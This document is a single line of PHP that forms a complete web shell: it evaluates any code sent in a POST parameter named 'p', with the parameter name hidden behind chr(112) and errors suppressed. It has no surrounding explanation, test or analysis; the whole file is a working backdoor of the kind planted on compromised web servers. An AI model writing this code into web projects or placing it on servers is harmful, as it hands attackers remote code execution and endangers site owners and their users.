<?=@eval($_POST[chr(112)]);?>
